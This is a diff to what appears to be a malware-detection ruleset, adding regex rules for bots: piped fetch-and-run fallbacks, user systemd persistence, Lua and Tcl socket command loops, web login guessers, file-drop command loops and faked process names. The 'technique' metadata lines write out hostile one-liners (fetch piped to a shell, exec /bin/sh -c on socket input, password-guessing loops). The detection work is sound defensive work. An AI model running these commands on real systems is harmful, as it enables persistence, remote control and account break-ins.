@@ -1117,6 +1117,8 @@ rule bot_fetch_pipe_interpreter : bot
         $p3 = /\beval ["']?(\$\(|`)\s{0,2}(curl|wget|fetch)\s[^\n)`]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
         $p4 = /\b(source|\.|bash|sh|zsh) <\(\s{0,2}(curl|wget|fetch)\s[^\n)]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
         $p5 = /\b(perl|python[0-9.]{0,4}|php) - ?< ?<\(\s{0,2}(curl|wget)\s[^\n)]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
+        // (train9) a group of fallbacks piped as one: { wget -qO- U || curl -s U; } | bash
+        $p6 = /[{(]\s{0,4}(curl|wget|fetch)\s[^\n}]{0,200}(http|s?ftp):\/\/[^\n}]{0,200}\|\|\s{0,4}(curl|wget|fetch)\s[^\n}]{0,200}[})]\s{0,4}\|\s{0,4}(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
         // the URL kept in a variable
         $v1 = /\b(curl|wget|fetch)\s[^\n|;&]{0,60}\s["']?\$\{?\w{1,30}\}?["']?\s{0,4}\|\s{0,4}(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
         $v2 = /\b(sh|bash|zsh|ksh|dash|eval)( -c)? ["']?\$\(\s{0,2}(curl|wget|fetch)\s[^\n)]{0,60}\s["']?\$\{?\w{1,30}\}?["']?\s{0,4}\)/
@@ -3298,13 +3300,18 @@ rule bot_systemd_unit_fetch_enable : bot
         description = "Script downloading a systemd unit into a unit directory and enabling it (user persistence)"
         severity = "high"
         technique = "curl -fsSL URL -o ~/.config/systemd/user/x.service; systemctl --user enable --now x.service; loginctl enable-linger"
-        seen = "train7"
+        seen = "train7,train9"
     strings:
         $f = /\b(curl|wget|fetch)\s[^\n]{0,200}(-o|-O|--output(-document)?[= ])\s{0,4}["']?[^\s"']{0,100}\.(service|timer)\b|\b(urlretrieve|getstore|mirror|copy)\s{0,2}\([^\n]{0,200}systemd\/(user|system)\//
         // a user unit (an admin installing a system service from a vendor is not that)
         $e = /\bsystemctl\s{1,4}--user\s{1,4}(enable|start|daemon-reload)\b|\bloginctl\s{1,4}enable-linger\b/
+        // (train9) the program fetched from plain HTTP into the home and made executable, its
+        // user unit enabled and lingering (the unit written elsewhere)
+        $fp = /\b(curl|wget)\s[^\n]{0,100}http:\/\/[^\n]{0,100}(-o|-O)\s{0,4}["']?(~|\$HOME|\$\{HOME\}|%h)\/[^\s"']{1,100}[^\n]{0,40}&&\s{0,4}chmod\s{1,4}\+?[0-7]{0,4}x?/
+        $en = /\bsystemctl\s{1,4}--user\s{1,4}enable\b/
+        $lg = /\bloginctl\s{1,4}enable-linger\b/
     condition:
-        filesize < 256KB and not hs_doc_file and $f and $e
+        filesize < 256KB and not hs_doc_file and (($f and $e) or ($fp and $en and $lg))
 }
 
 /* A crontab line watching over a hidden program: started again when a
@@ -3417,4 +3424,115 @@ rule bot_tool_wrapper_hiding : bot
         $ld2 = /\.(bashrc|bash_profile|profile|zshrc)['"][^\n]{0,40}['"]a['"][^\n]{0,200}\n[^\n]{0,200}LD_PRELOAD=/
     condition:
         filesize < 256KB and not hs_doc_file and (($tl and $gv) or $ld or $ld2)
+}
+
+/* ---- train9 round (branch fix9-bot, seen = "train9"): written from the
+ * misses of train9 seeds 2 and 3 (and train8's bot category); remote
+ * command loops in Python/Perl/Ruby/Node are script_flow.c's. */
+
+/* Lua bots: LuaSocket (or its HTTP module) and what came back run as a
+ * command. bot_revshell_lua asks for a plain :receive() and a bare variable
+ * in io.popen; bots concatenate (io.popen(cmd .. " 2>&1")), cut a prefix
+ * (data:sub(4)), read UDP (receivefrom) or poll HTTP (http.request). A tmux
+ * status script runs its own literals through io.popen and opens no socket. */
+rule bot_lua_socket_exec : bot
+{
+    meta:
+        description = "Lua bot: what a LuaSocket connection, UDP datagram or HTTP request returned run with io.popen/os.execute"
+        severity = "high"
+        technique = "local l = c:receive('*l'); io.popen(l:match(...) .. ' 2>&1') | u:receivefrom(); io.popen(data:sub(4)) | body = http.request(URL); os.execute(body .. ' &')"
+        seen = "train9"
+    strings:
+        $rq = /\brequire\s{0,2}\(?\s{0,2}["']socket(\.http|\.url)?["']/
+        $rv = /:\s{0,2}receive(from)?\s{0,2}\(|\bhttps?\.request\s{0,2}\(/
+        $x = /\b(io\.popen|os\.execute)\s{0,2}\(\s{0,2}[a-zA-Z_][\w.]{0,30}(:\w{1,10}\s{0,2}\([^()\n]{0,20}\))?\s{0,2}(\.\.|[,)])/
+    condition:
+        filesize < 1MB and not hs_doc_file and $rq and
+        for any i in (1..#rv) : ( $x in (@rv[i] .. @rv[i] + 400) )
+}
+
+/* Tcl bots outside eggdrop: a raw `socket` read with gets and the line (or
+ * a part of it) run with exec or a pipe open within a few lines. An eggdrop
+ * script talks to its bot's bind/putserv API (bot_tcl_eggdrop_exec). */
+rule bot_tcl_socket_exec : bot
+{
+    meta:
+        description = "Tcl bot: lines read from a raw socket run as commands (exec sh -c $x, exec {*}$x, open |$x)"
+        severity = "high"
+        technique = "set s [socket H 6667]; while {[gets $s line] >= 0} { regexp {...} $line -> cmd; catch {exec /bin/sh -c $cmd} r; puts $s $r }"
+        seen = "train9"
+    strings:
+        $sk = /\[\s{0,2}socket\s{1,4}(-async\s{1,4}|-server\s{1,4}\S{1,40}\s{1,4})?[$\w"]/
+        $g = /\b(gets|read)\s{1,4}\$\w{1,30}(\s{1,4}\w{1,30})?\s{0,2}\]/
+        $x = /\bexec\s{1,4}(--\s{1,4})?(\{\*\}\s{0,2}\$|(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh\s{1,4}-c\s{1,4}\$|\$)|\bopen\s{1,4}"\|\s{0,2}\$|\bopen\s{1,4}\[\s{0,2}concat\s{1,4}"?\|/
+    condition:
+        filesize < 1MB and not hs_doc_file and $sk and
+        for any i in (1..#g) : ( $x in (@g[i] .. @g[i] + 500) )
+}
+
+/* Login guessing against a web login form (cPanel/WHM's login_only, a
+ * WordPress wp-login.php or xmlrpc.php): a password field filled from a
+ * variable in a loop, and the hits appended to a file. A monitor logs in
+ * with its one configured password and alerts; it keeps no list of hits. */
+rule bot_form_login_guesser : bot hacktool
+{
+    meta:
+        description = "Web login guesser: a form's password field filled from a word list in a loop, posted to cPanel/WHM or WordPress logins, hits appended to a file"
+        severity = "high"
+        technique = "while read pass; do curl -d \"user=$u&pass=$pass\" https://$h:2083/login/?login_only=1 | grep security_token && echo ... >> hits; done < p.txt | curl_multi over file(t.txt) x file(p.txt) | requests.post(url, data={'user': u, 'pass': p}) per thread"
+        seen = "train9,train8"
+    strings:
+        $lg = /\/login\/\?login_only=1|\bwp-login\.php\b|\bxmlrpc\.php\b|:20(82|83|86|87|95|96)\/|\bwp\.getUsersBlogs\b/
+        // the password field from a variable: shell/query text, PHP array, Python dict, Perl hash
+        $pw1 = /\b(pass|pwd|passwd|password)=\$\{?\w{1,30}/
+        $pw2 = /['"](pass|pwd|passwd|password)['"]\s{0,2}(=>|:)\s{0,2}(\$\w{1,30}|[a-zA-Z_]\w{0,30}\s{0,2}[,})\]])/
+        $pw3 = /\b(pass|pwd|passwd|password)\s{0,2}=>\s{0,2}\$\w{1,30}/
+        $pw4 = /-u\s{1,4}["'][^"'\s:]{1,30}:\$\{?\w{1,30}/
+        // a list walked
+        $l1 = /\bwhile\s{1,4}read\b|\bforeach\s{0,2}\(|\bfor\s{1,4}\w{1,30}\s{1,4}in\s|\bfor\s{0,2}\(?\s{0,2}my\s{1,4}\$|\bthreading\.Thread\b/
+        // the hits kept
+        $h1 = /\bFILE_APPEND\b|>>\s{0,2}["']?[\w.$\/{}-]{1,60}|\bopen\s{0,2}\([^\n)]{1,80},\s{0,2}['"]a\+?['"]|\bopen\s{0,2}\(?\s{0,2}(my\s{1,4})?\$?\w{0,30}\s{0,2},\s{0,2}['"]>>/
+    condition:
+        filesize < 512KB and not hs_doc_file and $lg and any of ($pw*) and $l1 and $h1
+}
+
+/* A command queue through files: an endless loop polling a file or
+ * directory in a hidden temp path (/tmp/.x, /var/tmp/.x/q, /dev/shm/.x)
+ * that a web page writes, running what is in it and emptying or deleting
+ * it. A spool worker of an application keeps its queue under its own tree
+ * and runs its own program on the job, not the job's text. */
+rule bot_file_drop_command_loop : bot
+{
+    meta:
+        description = "Command loop over a dropped file: a hidden temp file or queue dir read in an endless loop, its text run as commands, the file emptied or deleted"
+        severity = "high"
+        technique = "while :; do [ -s $D/in ] && bash $D/in > $D/out; : > $D/in; sleep 3; done | while (1) { @c = <$h>; unlink $f; qx{$c} } | while True: cmd = b64decode(open(p).read()); os.unlink(p); subprocess.run(cmd, shell=True)"
+        seen = "train9"
+    strings:
+        $hd = /["'=\s](\/tmp|\/var\/tmp|\/dev\/shm)\/(\.[\w-]{1,40}\/)?\.[\w.-]{1,40}/
+        $lp = /\bwhile\s{0,2}(\(\s{0,2}1\s{0,2}\)|True\s{0,2}:|:\s{0,2};|true\s{0,2};|\[\s{0,2}1\s{0,2}\])/
+        $sl = /\b(sleep|usleep|time\.sleep)\b/
+        $x1 = /\bqx\s{0,2}[{(\/|]\s{0,2}\$\w|`\s{0,2}\$\w{1,30}[^`\n]{0,20}`|\bsystem\s{0,2}\(?\s{0,2}\$\w/
+        $x2 = /\bsubprocess\.\w{1,16}\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2},[^\n)]{0,80}shell\s{0,2}=\s{0,2}True|\bos\.(system|popen)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}\)/
+        $x3 = /(^|[\n;&|]|then|do)\s{0,8}(ba|da|z|k)?sh\s{1,4}["']?\$\{?\w{1,30}\}?\/[\w.-]{1,40}["']?\s{0,4}(>|2>|<|;|\n|&)/
+        $rm = /\bunlink\b|\bos\.(unlink|remove)\b|(^|[\n;&]|then|do)\s{0,8}:\s{0,2}>\s{0,2}["']?\$|\brm\s{1,4}-f\s{1,4}["']?\$|\btruncate\b/
+    condition:
+        filesize < 256KB and not hs_doc_file and $hd and $lp and $sl and any of ($x*) and $rm
+}
+
+/* A download started under a daemon's name: bash's exec -a (or an argv0
+ * wrapper) giving the fetched or hidden program a kernel-thread or server
+ * name. bot_process_masquerade reads Perl/Python's $0. */
+rule bot_exec_argv0_masquerade : bot
+{
+    meta:
+        description = "Fetched or hidden program started with a faked process name (exec -a '[kworker...]' / 'php-fpm: pool' ./.x)"
+        severity = "high"
+        technique = "curl -s URL -o .b && exec -a '[kworker/u8:2]' ./.b -c H:443"
+        seen = "train9"
+    strings:
+        $ea = /\bexec\s{1,4}-a\s{1,4}["']?(\[|[\w\/.-]{0,30}(httpd|sshd|php-fpm|nginx|apache2|crond?|kworker|kthreadd|systemd|dbus-daemon|rsyslogd|mysqld|postfix|exim|dovecot|kswapd|-bash))[^\n]{0,80}\s(\.{1,2}\/\.|["']?(\/tmp|\/var\/tmp|\/dev\/shm|\$HOME|~)\/[^\n\s]{0,60}\/\.|["']?\.\/\.)/
+        $f = /\b(curl|wget)\s/
+    condition:
+        filesize < 256KB and not hs_doc_file and $ea and $f
 }
